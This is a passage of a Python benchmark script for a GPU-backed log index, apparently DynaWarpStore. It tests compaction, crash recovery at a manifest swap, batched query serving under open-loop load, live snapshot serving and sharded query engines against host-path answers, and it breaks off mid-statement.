        for toks, c in zip(needle_toks,
                           eng.query_batch(needle_toks, op=op)):
            require(np.array_equal(c, eng.host_query(toks, op=op)),
                    f"after compaction: the contains {op} wave differs "
                    f"from the host path")
    # the unchanged segments are staged already; the compacted engine
    # is the only one that can have uploaded the merged ones
    require(new and bg.engine.upload_count == len(new),
            f"{bg.engine.upload_count} uploads for {len(new)} merged "
            f"segments")
    during = (sum(e is eng0 for e, _ in answered),
              sum(e is not eng0 for e, _ in answered))
    print(f"background compaction: {merges} merges of {len(pre)} "
          f"segments (size tiers {tiers}) into {len(bg.segments)}, "
          f"{compact_s:.2f} s from request to drained, {sum(during)} "
          f"term waves answered meanwhile ({during[0]} by the old "
          f"engine, equal to phase 4's candidates; {during[1]} by the "
          f"compacted one, equal to its host path), generation {gen0} "
          f"-> {bg._manifest_gen}, files {sorted(gone)} gone, each "
          f"merged segment uploaded once; afterwards the term wave "
          f"equals the host path and the standing wave's matches phase "
          f"4's", flush=True)
    bg.close()
    re.close()
    re2.close()

    # ----------------------------------------------- crash and resume
    cpath = os.path.join(tmp, "crash")
    prefix = lines[:CRASH_LINES]
    w = DynaWarpStore(batch_lines=BATCH_LINES, mode="segmented",
                      path=cpath, fsync=True,
                      memory_limit_bytes=CRASH_MEMORY, device=dev)
    crashed = False
    with faults.inject(crash_at="manifest.replace", after=1) as inj:
        try:
            w.ingest(prefix)
            w.finish()
        except faults.CrashError:
            crashed = True
    require(crashed and inj.fired == 1,
            "no crash at the second manifest swap")
    w.blobs.close()                 # the dead writer's file
    with open(os.path.join(cpath, MANIFEST_NAME)) as f:
        man = json.load(f)
    t = time.perf_counter()
    rec = DynaWarpStore.open(cpath, device=dev)
    crash_open_s = time.perf_counter() - t
    recovered = rec._n_lines
    require(not rec._finished and recovered == man["n_lines"]
            == man["batch_start"][-1] > 0,
            f"open() after the crash recovered {recovered} lines, the "
            f"manifest holds {man['n_lines']}")
    rec.ingest(prefix[recovered:])
    rec.finish()
    prefix_exact(rec.query_term_batch(standing), CRASH_LINES,
                 "crash -> open -> resume -> finish")
    rec.close()
    print(f"crash at the second manifest swap of {CRASH_LINES} lines "
          f"({CRASH_MEMORY >> 10} KiB spills): open() {crash_open_s:.3f}"
          f" s, {recovered} lines recovered, resumed and finished, "
          f"matches equal phase 4's below line {CRASH_LINES}", flush=True)
    launches = read(counters)
    return dict(launches=launches, fused_case=fused_case, path=path,
                summary=dict(
                    ingest_s=ingest_s, publish_s=st.stats.publish_s,
                    publishes=publishes, disk_bytes=disk,
                    index_bytes=index_bytes, snapshots=snaps, open_s=open_s,
                    open_files_without_sources_s=bare_s,
                    sealed_lists=n_lists, first_wave_s=first_s,
                    upload_bytes=upload_bytes, uploads=len(re.segments),
                    warm=warm, second_open_wave_s=again_s,
                    compaction=dict(merges=merges, s=compact_s,
                                    waves_old_engine=during[0],
                                    waves_new_engine=during[1], tiers=tiers),
                    crash=dict(open_s=crash_open_s,
                               recovered_lines=recovered)))


# --------------------------------------------------------------- phase 4c
class PerQueryServer:
    """The baseline of the load: a request queue drained by workers that
    run ONE engine wave per query (``query_fps_batch`` of one: no
    coalescing, no host shortcut), behind one lock, as a store without a
    serving layer would."""

    def __init__(self, engine, n_workers: int):
        import queue
        import threading
        self.engine = engine
        self._lock = threading.Lock()
        self._q = queue.Queue()
        self._workers = [threading.Thread(target=self._drain, daemon=True)
                         for _ in range(n_workers)]
        for w in self._workers:
            w.start()

    def submit(self, tokens):
        from repro_torch.core.serving import WaveTicket, _as_fp
        ticket = WaveTicket([_as_fp(t) for t in tokens], "and")
        ticket.t_submit = time.perf_counter()
        self._q.put(ticket)
        return ticket

    def _drain(self) -> None:
        while True:
            ticket = self._q.get()
            if ticket is None:
                return
            try:
                with self._lock:
                    res = self.engine.query_fps_batch([ticket.fps])[0]
            except BaseException as e:      # reaches the client's wait()
                ticket._fail(e, -1)
            else:
                ticket._complete(res, -1, "device")

    def close(self) -> None:
        for _ in self._workers:
            self._q.put(None)
        for w in self._workers:
            w.join(timeout=60)
            require(not w.is_alive(), "a per-query worker hung")


def open_loop(np, submit, token_lists, seed) -> tuple[dict, list]:
    """Drive ``submit`` from LOAD_CLIENTS open-loop threads, each on
    exponential inter-arrivals at LOAD_RATE q/s (arrivals fire whatever
    the completions, so queueing is part of every latency sample, the
    client's own lag behind its schedule included).  Returns q/s, the
    rate the clients reached, latency percentiles from the scheduled
    arrival and from the submit, and each request's (query index,
    ticket)."""
    import threading
    t_start = time.perf_counter() + 0.05
    collected = [[] for _ in range(LOAD_CLIENTS)]

    def client(ci: int) -> None:
        rng = np.random.default_rng(seed + ci)
        arrivals = t_start + np.cumsum(
            rng.exponential(1.0 / LOAD_RATE, size=LOAD_PER_CLIENT))
        for at in arrivals:
            now = time.perf_counter()
            if at > now:
                time.sleep(at - now)
            qi = int(rng.integers(len(token_lists)))
            collected[ci].append((at, qi, submit(token_lists[qi])))

    threads = [threading.Thread(target=client, args=(ci,), daemon=True)
               for ci in range(LOAD_CLIENTS)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(timeout=600)
        require(not th.is_alive(), "a load client hung")
    flat = [x for per in collected for x in per]
    for _, _, t in flat:
        t.wait(600)                 # a failed wave's error fails the phase
    lat_ms = np.asarray([(t.t_done - at) * 1e3 for at, _, t in flat])
    served_ms = np.asarray([(t.t_done - t.t_submit) * 1e3
                            for _, _, t in flat])
    first = min(at for at, _, _ in flat)
    last = max(t.t_done for _, _, t in flat)
    last_submit = max(t.t_submit for _, _, t in flat)
    return (dict(completed=len(flat), window_s=last - first,
                 qps=len(flat) / (last - first),
                 submitted_qps=len(flat) / (last_submit - first),
                 p50_ms=float(np.percentile(lat_ms, 50)),
                 p99_ms=float(np.percentile(lat_ms, 99)),
                 submit_p50_ms=float(np.percentile(served_ms, 50)),
                 submit_p99_ms=float(np.percentile(served_ms, 99))),
            [(qi, t) for _, qi, t in flat])


def consistent_with_some_prefix(batch, truth_lines, total) -> bool:
    """Every term's matches are a prefix of its full truth, and one common
    cut line explains the whole batch (it was answered against ONE view):
    ``tests/test_serving.py``'s invariant."""
    lo, hi = 0, total
    for matches, full in zip(batch, truth_lines):
        if matches != full[:len(matches)]:
            return False
        lo = max(lo, matches[-1] + 1 if matches else 0)
        hi = min(hi, full[len(matches)] if len(matches) < len(full)
                 else total)
    return lo <= hi


def serve_path(torch, np, dev, counters, seg, durable) -> dict:
    """The serving front end on phase 4's 1M-line store: the cost model
    measured on the card, an open-loop load against per-query dispatch and
    the wave scheduler, ``StoreServer`` answers against the store's own, a
    live durable writer's snapshots served to reader threads, and the
    ``--arch dynawarp --store`` entry point on phase 4b's directory."""
    import collections
    import contextlib
    import io
    import threading

    from repro_torch.configs import DYNAWARP_CONFIG as cfg
    from repro_torch.core.serving import (CostModel, WaveScheduler,
                                          measure_dispatch_costs)
    from repro_torch.core.tokenizer import term_query_tokens
    from repro_torch.kernels.bitmap_extract.ops import bitmap_extract_ragged
    from repro_torch.kernels.bitset_ops.ops import bitset_reduce_ragged
    from repro_torch.kernels.sketch_probe.ops import match_planes
    from repro_torch.launch import serve
    from repro_torch.logstore.store import DynaWarpStore

    store, eng, terms = seg["store"], seg["store"].engine, seg["terms"]
    half = len(terms) // 2
    present, absent = terms[:half], terms[half:]
    # present and absent ids in turns, so that the cost model's host
    # sample (the mix's head) holds both kinds
    mix = [t for pair in zip(present[:LOAD_PRESENT], absent[:LOAD_ABSENT])
           for t in pair]
    mix_lists = [term_query_tokens(t) for t in mix]
    # what the store answers by itself, before the path's window
    mix_truth = store.candidates_term_batch(mix)
    one_terms = present[:N_SERVE_PRESENT] + absent[:N_SERVE_ABSENT]
    batch_terms = present[N_SERVE_PRESENT:2 * N_SERVE_PRESENT] + absent[
        N_SERVE_ABSENT:2 * N_SERVE_ABSENT]
    needles = seg["needles"][:N_SERVE_NEEDLES]
    want_one = [store.query_term(t) for t in one_terms]
    want_contains = [store.query_contains(n) for n in needles]
    want_batch = store.query_term_batch(batch_terms)
    live_terms = present[:LIVE_PRESENT] + absent[:LIVE_ABSENT]
    live_truth = [[m for m in r.matches if m < LIVE_LINES]
                  for r in store.query_term_batch(live_terms)]
    uploads0 = eng.upload_count
    entries = (match_planes, bitset_reduce_ragged, bitmap_extract_ragged)

    reset(counters)
    # ------------------------------------------------------- cost model
    t0 = time.perf_counter()
    model = measure_dispatch_costs(eng, mix_lists, buckets=SERVE_BUCKETS,
                                   reps=SERVE_REPS, host_samples=64)
    cost_s = time.perf_counter() - t0
    require(model["backend"] == "cuda", f"the cost model was measured on "
            f"{model['backend']}")
    model_path = ROOT / "build" / "bench_costmodel.json"
    model_path.write_text(json.dumps(model, indent=1))
    cm = CostModel.load(str(model_path))
    crossover = [b for b in SERVE_BUCKETS if not cm.prefer_host(b, b)]
    print(f"serve cost model (measured on the card, {cost_s:.1f} s, median "
          f"of {SERVE_REPS}): {json.dumps(model)}; a full bucket goes to "
          f"the device from Q {crossover[0] if crossover else 'never'}",
          flush=True)

    # ----------------------------------------------------- open-loop load
    direct = PerQueryServer(eng, n_workers=4)
    try:
        for tl in mix_lists[:2]:
            direct.submit(tl).wait(120)                 # warm
        base, base_res = open_loop(np, direct.submit, mix_lists, SEED)
    finally:
        direct.close()
    replicas = [eng] + [eng.clone() for _ in range(cfg.serve_replicas - 1)]
    sched = WaveScheduler(replicas, bucket_sizes=cfg.wave_bucket_sizes,
                          flush_deadline_s=cfg.flush_deadline_s,
                          max_live_waves=cfg.max_live_waves,
                          max_pending=cfg.serve_max_pending, cost_model=cm)
    try:
        sched.query_batch(mix_lists[:cfg.wave_bucket_sizes[-1]],
                          timeout=120)                  # warm
        st0, before = sched.stats(), read(counters)
        at = [e.launch_count for e in entries]
        waves, wave_res = open_loop(np, sched.submit, mix_lists, SEED)
        st1, after = sched.stats(), read(counters)
        fused, fold, extract = (e.launch_count - a
                                for e, a in zip(entries, at))
        # the device's busy share, in a second run of the same load under
        # the profiler (which slows the host: its q/s is not reported)
        profiled = []
        wall_ms, busy_ms = device_busy(torch, lambda: profiled.append(
            open_loop(np, sched.submit, mix_lists, SEED + 99)))
        st2 = sched.stats()
    finally:
        sched.close()
    for name, res in (("per-query", base_res), ("waves", wave_res),
                      ("profiled waves", profiled[0][1])):
        for qi, t in res:
            require(np.array_equal(t.wait(0), mix_truth[qi]),
                    f"{name}: an answer differs from the direct wave")
    n = {k: after[k] - before[k] for k in after}
    device_waves = st1.device_waves - st0.device_waves
    host_waves = st1.host_waves - st0.host_waves
    answered = {t.wave_id for _, t in wave_res
                if t.via == "device" and t.wait(0).size}
    require(st2.failed == 0, f"{st2.failed} queries failed")
    require(device_waves > 0, "no wave of the load went to the device")
    require(len({t.wave_id for _, t in wave_res if t.via == "device"})
            == device_waves, "device waves counted twice")
    n_planes = len(eng._plane_segs)
    require(fused == n["sketch_probe"] == n_planes * device_waves,
            f"{fused} fused probes ({n['sketch_probe']} sketch_probe "
            f"launches) for {device_waves} device waves of {n_planes} "
            f"segments")
    require(fold == n["bitset_reduce_batch"] == device_waves,
            f"{fold} ragged folds for {device_waves} device waves")
    require(extract == n["bitmap_extract"] == len(answered),
            f"{extract} ragged extractions for {len(answered)} device waves "
            f"with an answer")
    require(n["token_hash"] == 0, "a served wave launched token_hash")
    speedup = waves["qps"] / base["qps"]
    require(speedup >= 3.0, f"coalesced waves only {speedup:.2f}x the q/s "
            f"of per-query dispatch (< 3x)")
    require(eng.upload_count == uploads0 and all(
        r.upload_count == 0 for r in replicas[1:]),
        "a served wave uploaded a segment again")
    hist = {}                       # waves of the window by Q bucket
    for k in collections.Counter(t.wave_id for _, t in wave_res).values():
        b = next(x for x in cfg.wave_bucket_sizes if x >= k)
        hist[b] = hist.get(b, 0) + 1
    hist = dict(sorted(hist.items()))
    load = dict(
        clients=LOAD_CLIENTS, per_client=LOAD_PER_CLIENT,
        offered_qps=LOAD_CLIENTS * LOAD_RATE, mix=len(mix),
        per_query=base, waves=waves, speedup=speedup,
        waves_formed=st1.waves - st0.waves, host_waves=host_waves,
        device_waves=device_waves,
        device_waves_with_answer=len(answered), max_wave=st1.max_wave,
        padded_slots=st1.padded_slots - st0.padded_slots,
        size_flushes=st1.size_flushes - st0.size_flushes,
        deadline_flushes=st1.deadline_flushes - st0.deadline_flushes,
        wave_sizes_by_bucket=hist, replica_waves={
            r: v - st0.replica_waves.get(r, 0)
            for r, v in st1.replica_waves.items()},
        launches=dict(fused=fused, fold=fold, extract=extract),
        profiled_wall_ms=wall_ms, device_busy_ms=busy_ms)
    for name, r in (("per-query dispatch", base), ("coalesced waves", waves)):
        print(f"serve load, {name}: {r['completed']} queries in "
              f"{r['window_s']:.3f} s = {r['qps']:.0f} q/s (the clients "
              f"submitted {r['submitted_qps']:.0f} q/s), p50 "
              f"{r['p50_ms']:.2f} ms, p99 {r['p99_ms']:.2f} ms from the "
              f"scheduled arrival; from the submit p50 "
              f"{r['submit_p50_ms']:.2f} ms, p99 {r['submit_p99_ms']:.2f} "
              f"ms", flush=True)
    print(f"serve load: {LOAD_CLIENTS} open-loop clients scheduled at "
          f"{LOAD_CLIENTS * LOAD_RATE:.0f} q/s in all (past what either "
          f"back end or the clients themselves reach), {len(mix)} distinct "
          f"queries ({LOAD_PRESENT} present, "
          f"{LOAD_ABSENT} absent ids), every answer equal to the direct "
          f"wave; waves {speedup:.1f}x per-query q/s; {load['waves_formed']} "
          f"waves ({host_waves} host / {device_waves} device, "
          f"{len(answered)} with an answer), max wave {st1.max_wave}, padded "
          f"slots {load['padded_slots']}, waves by bucket {hist}, "
          f"{load['size_flushes']} size / {load['deadline_flushes']} "
          f"deadline flushes, waves by replica {load['replica_waves']}; "
          f"launches {fused} fused probes, {fold} folds, {extract} "
          f"extractions ({n_planes} / 1 / 1 a device wave with an answer); "
          f"device busy "
          f"{busy_text(wall_ms, busy_ms)} in a profiled run of the same "
          f"load", flush=True)

    # ---------------------------------------------- StoreServer answers
    t0 = time.perf_counter()
    with store.serving(n_replicas=2, cost_model=cm) as server:
        for t, want in zip(one_terms, want_one):
            got = server.query_term(t, timeout=300)
            require(got.matches == want.matches and np.array_equal(
                got.candidate_batches, want.candidate_batches),
                f"StoreServer.query_term({t!r}) differs from the store's")
        for nd, want in zip(needles, want_contains):
            got = server.query_contains(nd, timeout=300)
            require(got.matches == want.matches,
                    f"StoreServer.query_contains({nd!r}) differs")
        got = server.query_term_batch(batch_terms, timeout=300)
        require([r.matches for r in got] == [r.matches for r in want_batch],
                "StoreServer.query_term_batch differs from the store's")
    sst = server.scheduler.stats()
    answers_s = time.perf_counter() - t0
    print(f"StoreServer (2 replicas): {len(one_terms)} query_term "
          f"({N_SERVE_PRESENT} present), {len(needles)} query_contains and "
          f"a query_term_batch of {len(batch_terms)} equal the store's own "
          f"answers; {sst.waves} waves ({sst.host_waves} host / "
          f"{sst.device_waves} device), {answers_s:.1f} s", flush=True)

    # ----------------------------------------------------- live serving
    lpath = os.path.join(os.path.dirname(durable["path"]), "live")
    lines = seg["ds"].lines[:LIVE_LINES]
    w = DynaWarpStore(batch_lines=BATCH_LINES, mode="segmented", path=lpath,
                      fsync=True, publish_per_spill=True,
                      memory_limit_bytes=LIVE_MEMORY, device=dev)
    t0 = time.perf_counter()
    pos = 0
    while w.snapshot().engine is None:          # a first published prefix
        w.ingest(lines[pos:pos + LIVE_CHUNK])
        pos += LIVE_CHUNK
    first_published = w.snapshot().n_lines
    server = w.serving(n_replicas=2, cost_model=cm)
    errors, checks, moved, seen = [], [0, 0], [0, 0], set()
    done = threading.Event()

    def reader(ci: int) -> None:           # counts in its own slots
        while not done.is_set() or checks[ci] == 0:
            moved[ci] += server.refresh()
            view = server.view
            try:
                batch = [r.matches for r in server.query_term_batch(
                    live_terms, timeout=300)]
            except Exception as e:          # fails the phase below
                errors.append(repr(e))
                return
            if not consistent_with_some_prefix(batch, live_truth,
                                               LIVE_LINES):
                errors.append(f"reader {ci}: answers exact over no "
                              f"published prefix")
                return
            seen.add(view.n_lines)
            checks[ci] += 1

    readers = [threading.Thread(target=reader, args=(ci,), daemon=True)
               for ci in range(2)]
    try:
        for rt in readers:
            rt.start()
        try:
            for i in range(pos, LIVE_LINES, LIVE_CHUNK):
                w.ingest(lines[i:i + LIVE_CHUNK])
            w.finish()
        finally:
            done.set()
            for rt in readers:
                rt.join(timeout=600)
                require(not rt.is_alive(), "a live reader hung")
        checks, moved = sum(checks), sum(moved)
        require(not errors, f"live serving: {errors[:3]}")
        require(checks > 0 and moved > 0, f"live serving: {checks} checked "
                f"batches, {moved} refreshes moved the view")
        server.refresh()
        require(server.view.n_lines == LIVE_LINES, f"the final view holds "
                f"{server.view.n_lines} of {LIVE_LINES} lines")
        final = [r.matches for r in server.query_term_batch(live_terms,
                                                            timeout=300)]
        require(final == live_truth, "the final view's answers differ from "
                "phase 4's matches below the prefix")
        lst = server.scheduler.stats()
    finally:
        server.close()
        w.close()
    live_s = time.perf_counter() - t0
    live = dict(lines=LIVE_LINES, s=live_s, first_published=first_published,
                checks=checks, refreshes_moved=moved,
                views=sorted(seen), waves=lst.waves,
                host_waves=lst.host_waves, device_waves=lst.device_waves)
    print(f"live serving: a durable writer ({LIVE_MEMORY >> 20} MiB spills, "
          f"publish per spill) of the first {LIVE_LINES} lines, 2 readers: "
          f"{checks} batches of {len(live_terms)} terms each exact over a "
          f"published prefix (views of {sorted(seen)} lines), "
          f"{moved} refreshes moved the view, then the whole prefix "
          f"equal to phase 4's matches; {lst.waves} waves ({lst.host_waves} "
          f"host / {lst.device_waves} device), {live_s:.1f} s", flush=True)

    # -------------------------------------------------- the entry point
    buf = io.StringIO()
    t0 = time.perf_counter()
    with contextlib.redirect_stdout(buf):
        rc = serve.main(["--arch", "dynawarp", "--store", durable["path"],
                         "--cost-model", str(model_path)])
    entry_s = time.perf_counter() - t0
    out = buf.getvalue()
    print(out, end="", flush=True)
    require(rc == 0 and " q/s)  p50 " in out and "p99 " in out,
            f"serve --arch dynawarp --store returned {rc}")
    qline = next(ln for ln in out.splitlines() if " q/s)" in ln)
    launches = read(counters)
    return dict(launches=launches, summary=dict(
        cost_model=model, cost_model_s=cost_s, load=load,
        store_server=dict(waves=sst.waves, host_waves=sst.host_waves,
                          device_waves=sst.device_waves, s=answers_s),
        live=live, entry_point=dict(s=entry_s, line=qline)))


# --------------------------------------------------------------- phase 4d
def least_loaded(prior, n_shards) -> list[int]:
    """The slots the JAX package's placement rule gives a fleet whose slots
    were ``prior`` (None: fresh), written out here: a slot below
    ``n_shards`` is kept; every other segment, in order, goes to the
    least-loaded shard, the lowest on a tie."""
    load = [0] * n_shards
    for p in prior:
        if p is not None and p < n_shards:
            load[p] += 1
    out = []
    for p in prior:
        if p is None or p >= n_shards:
            p = load.index(min(load))
            load[p] += 1
        out.append(p)
    return out


def sharded_path(torch, np, dev, counters, seg, tmp) -> dict:
    """The first SHARD_LINES of phase 4's lines, and its queries, through a
    sharded durable store
    (``shard_axes=("data",)``: one shard per card) and through 4 and 8
    logical shards of the card (``ShardedQueryEngine(devices=[dev] * N)``),
    each wave held to the unsharded engine and its host path, with its
    launches, uploads, host copies and times; sharded serving; then the
    store's compaction and reopen with its engine on SHARD_FORCED logical
    shards.  The store lives under ``tmp``."""
    import collections

    from repro_torch.configs import DYNAWARP_CONFIG as cfg
    from repro_torch.core import distributed
    from repro_torch.core import query_engine as qe
    from repro_torch.core.distributed import ShardedQueryEngine
    from repro_torch.core.query_engine import QueryEngine
    from repro_torch.core.serving import CostModel, WaveScheduler
    from repro_torch.core.tokenizer import term_query_tokens
    from repro_torch.kernels.bitmap_extract.ops import bitmap_extract_ragged
    from repro_torch.kernels.bitset_ops.ops import bitset_reduce_ragged
    from repro_torch.kernels.sketch_probe.ops import (match_planes,
                                                      mphf_probe_arrs)
    from repro_torch.logstore.store import DynaWarpStore

    lines, terms = seg["ds"].lines[:SHARD_LINES], seg["terms"]
    needle_toks = seg["needle_toks"]
    kinds = {"term": ([term_query_tokens(t) for t in terms], "and"),
             "contains_and": (needle_toks, "and"),
             "contains_or": (needle_toks, "or")}
    entries = (match_planes, mphf_probe_arrs, bitset_reduce_ragged,
               bitmap_extract_ragged)
    inner_to_host = qe._to_host

    def counted(eng, kind, what):
        """One wave: one token_hash launch, one fused probe a plane segment,
        one ragged fold and one ragged extraction; -> (answers, bytes
        copied to the host by the fold and the extraction)."""
        lists, op = kinds[kind]
        n_planes = len(eng._plane_segs)
        copied = []

        def counting(t):
            copied.append(t.numel() * t.element_size())
            return inner_to_host(t)

        before, at = read(counters), [e.launch_count for e in entries]
        qe._to_host = counting
        try:
            out = eng.query_batch(lists, op=op)
            torch.cuda.synchronize()
        finally:
            qe._to_host = inner_to_host
        n = {k: v - before[k] for k, v in read(counters).items()}
        fused, probe, fold, extract = (e.launch_count - a
                                       for e, a in zip(entries, at))
        require(n["token_hash"] == 1, f"{what} {kind}: token_hash launched "
                f"{n['token_hash']} times a wave, not once")
        require(fused == n["sketch_probe"] == n_planes and probe == 0,
                f"{what} {kind}: {fused} fused probes for {n_planes} "
                f"segments ({n['sketch_probe']} sketch_probe launches)")
        require(fold == n["bitset_reduce_batch"] == 1, f"{what} {kind}: "
                f"{fold} ragged folds a wave, not one")
        require(extract == n["bitmap_extract"] == 1, f"{what} {kind}: "
                f"{extract} ragged extractions a wave, not one")
        return out, sum(copied)

    def same(got, want, what):
        require(len(got) == len(want) and all(
            np.array_equal(a, b) for a, b in zip(got, want)),
            f"{what}: the answers differ")

    def host_path(eng, what):
        for kind, (lists, op) in kinds.items():
            for toks, c in zip(lists, eng.query_batch(lists, op=op)):
                require(np.array_equal(c, eng.host_query(toks, op=op)),
                        f"{what}: the {kind} wave differs from the host "
                        f"path")

    def scan_sample(store, what):
        """The scan store's matches of phase 4's sample, over the prefix."""
        sample = list(seg["truth"])
        for t, r in zip(sample, store.query_term_batch(sample)):
            require(r.matches == [m for m in seg["truth"][t]
                                  if m < len(lines)],
                    f"{what}: the scan oracle differs on {t!r}")

    reset(counters)
    # ------------------------------------------------- the sharded store
    path = os.path.join(tmp, "store")
    t0 = time.perf_counter()
    store = DynaWarpStore(batch_lines=BATCH_LINES, mode="segmented",
                          memory_limit_bytes=SHARD_MEMORY, compact_fanout=1,
                          plane_budget_bytes=SHARD_PLANES,
                          auto_compact=False, path=path, fsync=True,
                          shard_axes=("data",), device=dev)
    store.ingest(lines)
    store.finish()
    ingest_s = time.perf_counter() - t0
    gc.collect()
    gc.freeze()
    own = store.engine
    segs = store.segments
    require(isinstance(own, ShardedQueryEngine), "the sharded store's "
            f"engine is a {type(own).__name__}")
    require(own.n_shards == torch.cuda.device_count(), f"{own.n_shards} "
            f"shards on {torch.cuda.device_count()} cards")
    require(len(segs) >= MIN_SHARD_SEGMENTS and all(
        s.planes is not None for s in segs), f"{len(segs)} segments "
        f"({sum(s.planes is None for s in segs)} without planes)")
    plain = QueryEngine(segs, n_postings=len(store.blobs), device=dev)

    # -------------------------------------- waves at 1, 4 and 8 shards
    engines = {"1": own, "unsharded": plain}
    answers, copied = {}, {}
    for kind in kinds:
        answers["1", kind], copied["1", kind] = counted(own, kind,
                                                        "1 shard")
    require(own.upload_count == len(segs), f"{own.upload_count} uploads for "
            f"{len(segs)} segments")
    index_bytes = own.device_bytes()
    for kind in kinds:
        answers["unsharded", kind], copied["unsharded", kind] = counted(
            plain, kind, "unsharded")
    t0 = time.perf_counter()
    host_path(plain, "unsharded")
    host_s = time.perf_counter() - t0
    # store.serving() first: its replicas are clones of the store's own
    # engine, whose placement (one shard) they apply to the segments again
    cm = CostModel.load(str(ROOT / "build" / "bench_costmodel.json"))
    half = len(terms) // 2
    present, absent = terms[:half], terms[half:]
    one_terms = present[:N_SHARD_PRESENT] + absent[:N_SHARD_ABSENT]
    needles = seg["needles"][:N_SHARD_NEEDLES]
    batch_terms = present[N_SHARD_PRESENT:2 * N_SHARD_PRESENT] + absent[
        N_SHARD_ABSENT:2 * N_SHARD_ABSENT]
    want_one = [store.query_term(t).matches for t in one_terms]
    want_contains = [store.query_contains(x).matches for x in needles]
    want_batch = [r.matches for r in store.query_term_batch(batch_terms)]
    t0 = time.perf_counter()
    with store.serving(n_replicas=2, cost_model=cm) as server:
        require(all(isinstance(e, ShardedQueryEngine)
                    for e in server.scheduler._engines),
                "store.serving() replicas are not sharded")
        for t, want in zip(one_terms, want_one):
            require(server.query_term(t, timeout=300).matches == want,
                    f"sharded StoreServer.query_term({t!r}) differs")
        for x, want in zip(needles, want_contains):
            require(server.query_contains(x, timeout=300).matches == want,
                    f"sharded StoreServer.query_contains({x!r}) differs")
        require([r.matches for r in server.query_term_batch(
            batch_terms, timeout=300)] == want_batch,
            "sharded StoreServer.query_term_batch differs")
    server_s = time.perf_counter() - t0
    placement = {"1": own.slots}
    for n_shards in SHARD_COUNTS:
        name = str(n_shards)
        for s in segs:                  # placed anew, over n_shards
            s.set_shard_slot(None)
        eng = engines[name] = ShardedQueryEngine(
            segs, devices=[dev] * n_shards, n_postings=len(store.blobs))
        per = [eng.slots.count(k) for k in range(n_shards)]
        require(eng.slots == least_loaded([None] * len(segs), n_shards)
                and max(per) - min(per) <= 1,
                f"{n_shards} shards: slots {eng.slots}")
        placement[name] = eng.slots
        for kind in kinds:
            answers[name, kind], copied[name, kind] = counted(
                eng, kind, f"{n_shards} shards")
        require(eng.upload_count == 0, f"the {n_shards}-shard engine "
                f"uploaded {eng.upload_count} segments again")
    for name in engines:
        for kind in kinds:
            same(answers[name, kind], answers["unsharded", kind],
                 f"{name} shard(s), {kind} wave against the unsharded one")
            require(copied[name, kind] == copied["unsharded", kind],
                    f"{name} shard(s), {kind}: {copied[name, kind]} bytes "
                    f"to the host, the unsharded wave "
                    f"{copied['unsharded', kind]}")
    scan_sample(store, "sharded store")
    print(f"sharded store: {len(segs)} segments, {own.n_shards} shard(s) "
          f"(= {torch.cuda.device_count()} card(s)), {index_bytes} bytes "
          f"on the card, ingest+finish {ingest_s:.1f} s; segments a "
          f"shard " + ", ".join(
              f"{n} logical shards {[placement[str(n)].count(k) for k in range(n)]}"
              for n in SHARD_COUNTS)
          + " (the least-loaded rule's slots); every wave at 1, 4 and 8 "
          f"shards equal to the "
          f"unsharded engine's, which equals its host path "
          f"({host_s:.1f} s), with its launches (one token_hash, "
          f"{len(segs)} fused probes, one fold, one extraction) and its "
          f"host bytes {dict((k, copied['unsharded', k]) for k in kinds)}; "
          f"{len(segs)} uploads by the first engine, none by the others; "
          f"{len(seg['truth'])} sampled terms equal the scan store's",
          flush=True)

    # timed in turns, each wave of each engine once a round
    ms = {(name, kind): [] for name in engines for kind in kinds}
    for _ in range(SHARD_REPS):
        for name, eng in engines.items():
            for kind, (lists, op) in kinds.items():
                t = time.perf_counter()
                eng.query_batch(lists, op=op)
                torch.cuda.synchronize()
                ms[name, kind].append(1e3 * (time.perf_counter() - t))
    waves = {}
    for name, eng in engines.items():
        lists, op = kinds["term"]
        wall_ms, busy_ms = device_busy(
            torch, lambda: eng.query_batch(lists, op=op))
        waves[name] = dict(
            {kind: dict(zip(("p50_ms", "p99_ms"),
                            percentiles(np, ms[name, kind])))
             for kind in kinds},
            term_profiled_wall_ms=wall_ms, term_device_busy_ms=busy_ms,
            d2h_bytes={k: copied[name, k] for k in kinds})
        print(f"sharded waves, {name} shard(s): " + ", ".join(
            f"{k} p50 {v['p50_ms']:.3f} ms p99 {v['p99_ms']:.3f} ms"
            for k, v in waves[name].items() if k in kinds)
            + f" ({SHARD_REPS} warm waves each, in turns); device busy in "
            f"a term wave {busy_text(wall_ms, busy_ms)}", flush=True)

    # ------------------------------------------- serving, 4 logical shards
    e4 = engines["4"]
    mix = [t for pair in zip(present[:LOAD_PRESENT], absent[:LOAD_ABSENT])
           for t in pair]
    mix_lists = [term_query_tokens(t) for t in mix]
    mix_truth = e4.query_batch(mix_lists)
    replicas = [e4, e4.clone()]
    require(replicas[1].slots == e4.slots and replicas[1].devices
            == e4.devices, "a clone moved the shards")
    sched = WaveScheduler(replicas, bucket_sizes=cfg.wave_bucket_sizes,
                          flush_deadline_s=cfg.flush_deadline_s,
                          max_live_waves=cfg.max_live_waves,
                          max_pending=cfg.serve_max_pending, cost_model=cm)
    try:
        sched.query_batch(mix_lists[:cfg.wave_bucket_sizes[-1]],
                          timeout=120)                  # warm
        st0, before = sched.stats(), read(counters)
        at = [e.launch_count for e in entries]
        load, res = open_loop(np, sched.submit, mix_lists, SEED + 7)
        st1, after = sched.stats(), read(counters)
    finally:
        sched.close()
    fused, _, fold, extract = (e.launch_count - a for e, a in zip(entries, at))
    n = {k: after[k] - before[k] for k in after}
    for qi, t in res:
        require(np.array_equal(t.wait(0), mix_truth[qi]),
                "sharded serving: an answer differs from the direct wave")
    device_waves = st1.device_waves - st0.device_waves
    with_answer = {t.wave_id for _, t in res
                   if t.via == "device" and t.wait(0).size}
    require(st1.failed == 0 and device_waves > 0, f"sharded serving: "
            f"{st1.failed} failed, {device_waves} device waves")
    require(fused == n["sketch_probe"] == len(segs) * device_waves
            and fold == n["bitset_reduce_batch"] == device_waves
            and extract == n["bitmap_extract"] == len(with_answer)
            and n["token_hash"] == 0, f"sharded serving: {fused} probes, "
            f"{fold} folds, {extract} extractions for {device_waves} device "
            f"waves of {len(segs)} segments ({len(with_answer)} with an "
            f"answer)")
    require(all(r.upload_count == 0 for r in replicas),
            "a served wave uploaded a segment again")
    serving = dict(load=load, device_waves=device_waves,
                   waves=st1.waves - st0.waves,
                   launches=dict(fused=fused, fold=fold, extract=extract),
                   store_server_s=server_s)
    print(f"sharded serving: a WaveScheduler over 2 clones of the 4-shard "
          f"engine, {load['completed']} open-loop queries ({LOAD_CLIENTS} "
